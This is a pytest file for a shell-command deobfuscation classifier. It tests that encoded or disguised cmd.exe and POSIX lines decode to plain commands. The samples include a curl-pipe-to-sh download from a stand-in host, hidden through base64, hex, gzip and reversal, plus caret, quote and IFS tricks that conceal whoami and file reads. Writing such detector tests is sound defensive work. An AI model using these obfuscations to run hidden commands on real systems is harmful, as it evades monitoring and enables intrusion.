"""What cmd.exe and Posix shells undo beyond the basics: loops, filters, variables, words in pieces."""

from __future__ import annotations

import base64
import gzip

import pytest

from cmdclf.lines import Layer, decode_layers

DOWNLOAD = "curl -s https://example.com/a.sh | sh"
B64 = base64.b64encode(DOWNLOAD.encode()).decode()
B32 = base64.b32encode(DOWNLOAD.encode()).decode()
HEX = DOWNLOAD.encode().hex()


@pytest.mark.parametrize(
    ("line", "platform", "kind", "text"),
    [
        ("c^m^d^ /c^ w^h^o^a^m^i", "windows", "wrapper", "whoami"),
        ("^w^h^o^a^m^i^ /^a^l^l", "windows", "caret", "whoami /all"),
        ('w"hoa"mi /all', "windows", "quotes", "whoami /all"),
        ('po""""wershell x', "windows", "quotes", "powershell x"),
        ("for %a in (calc) do start %a", "windows", "for", "start calc"),
        ("for %%i in (whoami.exe) do call %%i /all", "windows", "for", "call whoami.exe /all"),
        ('for /f "delims=" %i in ("whoami /all") do %i', "windows", "for", "whoami /all"),
        ("set x=imawho&&for %a in (3,4,5,2,1,0) do set y=!y!!x:~%a,1!&&call %y%", "windows", "for", "whoami"),
        ("set x=imaohw&&for /L %a in (5,-1,0) do set y=!y!!x:~%a,1!", "windows", "for", "whoami"),
        ("set a=who&&set b=%a%ami&&call %b%", "windows", "env", "set a=who&&set b=whoami&&call whoami"),
        ("%windir:~0,1%md", "windows", "env", "Cmd"),
        ("%COMSPEC% /q", "windows", "plain-env", "C:\\Windows\\system32\\cmd.exe /q"),
        ("echo 'hs | x.elpmaxe lruc' | rev | sh", "linux", "reverse", "curl example.x | sh"),
        ("rev <<< 'imaohw' | sh", "linux", "reverse", "whoami"),
        ("echo 'jubnzv --uryc' | tr 'a-z' 'n-za-m' | sh", "linux", "tr", "whoami --help"),
        ("echo jubnzv | tr '[a-z]' '[n-za-m]'", "linux", "tr", "whoami"),
        ("echo 'wXhXoXaXmXi' | tr -d X | sh", "linux", "tr", "whoami"),
        ("echo wZhoami | sed 's/Z//g' | sh", "linux", "replace", "whoami"),
        (f"echo {B32} | base32 -d | sh", "linux", "base32", DOWNLOAD),
        (f"echo '{B64[::-1]}' | rev | base64 -d | sh", "linux", "base64", DOWNLOAD),
        (f"base64 -d <<< '{B64}' | sh", "linux", "base64", DOWNLOAD),
        (f"openssl base64 -d <<< {B64}", "linux", "base64", DOWNLOAD),
        (f"printf '%s' '{HEX}' | xxd -p -r | bash", "linux", "hex", DOWNLOAD),
        ("echo 0x77,0x68,0x6f,0x61,0x6d,0x69 | xxd -r -p", "linux", "hex", "whoami"),
        (f"perl -e 'system(pack(\"H*\",\"{HEX}\"))'", "linux", "hex", DOWNLOAD),
        (f"echo {base64.b64encode(gzip.compress(DOWNLOAD.encode())).decode()} | base64 -d | zcat | sh", "linux",
         "gzip-base64", DOWNLOAD),
        ("a=c;b=at;$a$b /etc/hosts", "linux", "variable", "a=c;b=at;cat /etc/hosts"),
        ("x=whoami; ${x}", "linux", "variable", "x=whoami; whoami"),
        ("wh$@oami", "linux", "quotes", "whoami"),
        ("who$()ami", "linux", "quotes", "whoami"),
        ("who``ami", "linux", "quotes", "whoami"),
        ("w\"ho\"am'i'x", "linux", "quotes", "whoamix"),
        (r"$(printf '\143\141\164') /etc/hosts", "linux", "escape", "$(printf 'cat') /etc/hosts"),
        ("{ls,-la,/tmp}", "linux", "brace", "ls -la /tmp"),
        ("cat${IFS:0:1}/etc/hosts", "linux", "ifs", "cat /etc/hosts"),
    ],
)  # fmt: skip
def test_the_last_layer_of_an_obfuscation_is_the_plain_text(line, platform, kind, text):
    assert decode_layers(line, platform)[-1] == Layer(kind, text)


@pytest.mark.parametrize(
    ("line", "platform"),
    [
        ("for %i in (*.txt) do type %i", "windows"),
        ("for /f %i in ('dir /b') do @echo %i", "windows"),
        ("for %i in (a b c) do echo %i", "windows"),
        ("findstr /r \"^[a-z]*$\" x.txt", "windows"),
        ("dir C:\\PROGRA~1\\X~2", "windows"),
        ("set PATH=C:\\x;C:\\y", "windows"),
        ("echo %DATE:~0,4%%UNKNOWN%", "windows"),
        ("msiexec /i {90160000-008C-0000-1000-0000000FF1CE} /qn", "windows"),
        ("sed -e 's/^foo/bar/' -e 's/\\s*$//' x", "linux"),
        ("sed 's|a|b|g' < in > out", "linux"),
        ("date -d \"yesterday\" +\"%F\"", "linux"),
        ("p=/tmp; ls -l $p", "linux"),
        ("for f in a b c; do echo $f; done", "linux"),
        ("ps aux | grep '[n]ginx' | awk '{print $2}'", "linux"),
        ("awk -F: '{print $1\":\"$3}' /etc/passwd", "linux"),
        ("echo \"$name\" | tr a-z A-Z", "linux"),
        ("cat x | tr -d '\\r' | sort | uniq -c", "linux"),
        ("git log --pretty=format:'%h %s' --since=\"2 weeks\"", "linux"),
        ("base64 -w0 cert.pem", "linux"),
        ("openssl req -x509 -newkey rsa:2048 -nodes -out a.pem", "linux"),
        ("xxd -l 16 image.bin", "linux"),
        ("curl -H 'Content-Type: application/json' -d '{\"a\":\"b\"}' http://localhost/", "linux"),
        ("grep -E '^(a|b)\\d+' x", "linux"),
        ("echo -e \"\\033[31mred\\033[0m\"", "linux"),
        ("cp a.{txt,bak}", "linux"),
        ("docker run --rm -v \"$PWD\":/src -w /src alpine ls", "linux"),
        ("find . -name '*.pyc' -exec rm {} \\;", "linux"),
        ("IFS=$'\\n' read -r x", "linux"),
        ("touch it\\ is.txt", "linux"),
    ],
)  # fmt: skip
def test_ordinary_administration_hides_nothing(line, platform):
    assert [x for x in decode_layers(line, platform) if x.kind != "wrapper"] == []
